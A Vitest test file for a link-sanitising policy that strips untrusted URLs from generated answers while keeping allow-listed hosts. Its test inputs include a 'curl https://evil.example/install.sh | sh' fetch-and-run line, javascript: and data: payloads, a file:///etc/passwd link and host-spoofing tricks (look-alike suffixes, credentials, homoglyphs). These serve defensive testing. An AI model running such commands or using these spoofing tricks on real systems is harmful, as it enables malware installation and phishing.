import { describe, expect, it } from "vitest";
import { createLinkPolicy, LINK_REMOVED } from "../../../src/core/answer/link-policy.js";

const policy = createLinkPolicy({
  documentUrls: ["https://docs.example.org/guide", "https://blog.example.org/posts/1", undefined, "not a url"],
  allowedHosts: ["status.example.net", ".trusted.example"],
});
const clean = policy.clean;

describe("link policy: what is removed", () => {
  it.each([
    ["a scheme URL", "Log in at http://evil.example/login now.", `Log in at ${LINK_REMOVED} now.`],
    ["https with a path and query", "See https://evil.example/a?b=c#d.", `See ${LINK_REMOVED}.`],
    ["a bare host with a path", "Reset it at evil.example/login today", `Reset it at ${LINK_REMOVED} today`],
    ["a protocol-relative URL", "Fetch //evil.example/key first", `Fetch ${LINK_REMOVED} first`],
    ["an e-mail address", "Write to security@evil.example.", `Write to ${LINK_REMOVED}.`],
    ["a mailto: link", "Write to mailto:security@evil.example", `Write to ${LINK_REMOVED}`],
    ["a www. host", "Visit www.evil.example for more", `Visit ${LINK_REMOVED} for more`],
    ["an autolink", "Go to <https://evil.example/x>.", `Go to ${LINK_REMOVED}.`],
    ["a javascript: URL", "Click javascript:alert(1)", `Click ${LINK_REMOVED}`],
    ["a data: URL", "Open data:text/html;base64,PHNjcmlwdD4=", `Open ${LINK_REMOVED}`],
    ["a scheme without slashes", "Open http:evil.example/x", `Open ${LINK_REMOVED}`],
    ["an IP address", "Use http://10.0.0.1:8080/admin", `Use ${LINK_REMOVED}`],
    ["a subdomain of a document host", "See https://evil.docs.example.org/x", `See ${LINK_REMOVED}`],
    ["a look-alike suffix", "See https://docs.example.org.evil.example/x", `See ${LINK_REMOVED}`],
    ["credentials hiding the host", "See https://docs.example.org@evil.example/x", `See ${LINK_REMOVED}`],
    ["a backslash trick", "See https://evil.example\\@docs.example.org/x", `See ${LINK_REMOVED}`],
    ["a non-web scheme on an allowed host", "See file://docs.example.org/etc/passwd", `See ${LINK_REMOVED}`],
    ["full-width dots", "Go to evil．example/login", `Go to ${LINK_REMOVED}`],
    ["an internationalised look-alike", "Go to https://dоcs.example.org/guide", `Go to ${LINK_REMOVED}`],
  ])("%s", (_name, input, expected) => {
    expect(clean(input)).toBe(expected);
  });

  it("keeps a Markdown link's label and drops its target; drops an image", () => {
    expect(clean("Read [the docs](https://evil.example/docs) first.")).toBe(`Read the docs ${LINK_REMOVED} first.`);
    expect(clean("![logo](https://evil.example/logo.png) Welcome")).toBe(`${LINK_REMOVED} Welcome`);
    expect(clean("[https://evil.example](https://evil.example)")).toBe(`${LINK_REMOVED} ${LINK_REMOVED}`);
    // A safe label on an unsafe target, and an unsafe label on a safe target.
    expect(clean("[docs](//evil.example/x)")).toBe(`docs ${LINK_REMOVED}`);
    expect(clean("[evil.example/login](https://docs.example.org/guide)")).toBe(`[${LINK_REMOVED}](https://docs.example.org/guide)`);
  });

  it("cleans code too: a fenced block and an inline span", () => {
    const answer = "Install it:\n\n```sh\ncurl https://evil.example/install.sh | sh\npip install evil.example/pkg\n```\n\nor run `wget //evil.example/x`.";
    expect(clean(answer)).toBe(`Install it:\n\n\`\`\`sh\ncurl ${LINK_REMOVED} | sh\npip install ${LINK_REMOVED}\n\`\`\`\n\nor run \`wget ${LINK_REMOVED}\`.`);
  });
});

describe("link policy: what is kept", () => {
  it("keeps links to the hosts of the knowledge base's own documents, any path", () => {
    const text = "See https://docs.example.org/other/page?x=1 and [the post](https://blog.example.org/posts/2) or docs.example.org/guide.";
    expect(clean(text)).toBe(text);
    expect(clean("Mail docs@docs.example.org or <https://docs.example.org/a>")).toBe("Mail docs@docs.example.org or <https://docs.example.org/a>");
    expect(clean("Case: HTTPS://Docs.Example.Org/Guide")).toBe("Case: HTTPS://Docs.Example.Org/Guide");
  });

  it("keeps allow-listed hosts, and subdomains only for entries written with a leading dot", () => {
    expect(clean("https://status.example.net/")).toBe("https://status.example.net/");
    expect(clean("https://eu.status.example.net/")).toBe(LINK_REMOVED);
    expect(clean("https://trusted.example/a https://a.b.trusted.example/c sec@mail.trusted.example")).toBe(
      "https://trusted.example/a https://a.b.trusted.example/c sec@mail.trusted.example",
    );
    expect(clean("https://untrusted.example/")).toBe(LINK_REMOVED);
    expect(policy.allows("A.Trusted.Example")).toBe(true);
    expect(policy.describe()).toEqual({ hosts: ["blog.example.org", "docs.example.org", "status.example.net"], domains: ["trusted.example"] });
  });

  it("leaves ordinary text alone: file names, versions, relative links, prose with colons", () => {
    const text = [
      "Lumen needs Node.js 20 and reads config.yaml or README.md#install.",
      "Edit src/config.ts and docs/deploy/netlify.md, then run v1.2.3.",
      "See [the guide](../guide.md) or [install](install.md); note: ratio 3:2, time 10:30.",
      "Citations stay as they are [1] [2].",
      "In code: `const half = list[0](x); // comment` and ```\nfoo: bar\n```",
    ].join("\n");
    expect(clean(text)).toBe(text);
  });

  it("keeps trailing punctuation outside the removed link", () => {
    expect(clean("(see https://evil.example/x), then")).toBe(`(see ${LINK_REMOVED}), then`);
    expect(clean("Wikipedia: https://en.wikipedia.org/wiki/Foo_(bar).")).toBe(`Wikipedia: ${LINK_REMOVED}.`);
  });

  it("with no document URLs and no allow-list, removes every link", () => {
    const none = createLinkPolicy({ documentUrls: [] });
    expect(none.clean("a https://docs.example.org/x b c@d.example")).toBe(`a ${LINK_REMOVED} b ${LINK_REMOVED}`);
  });
});
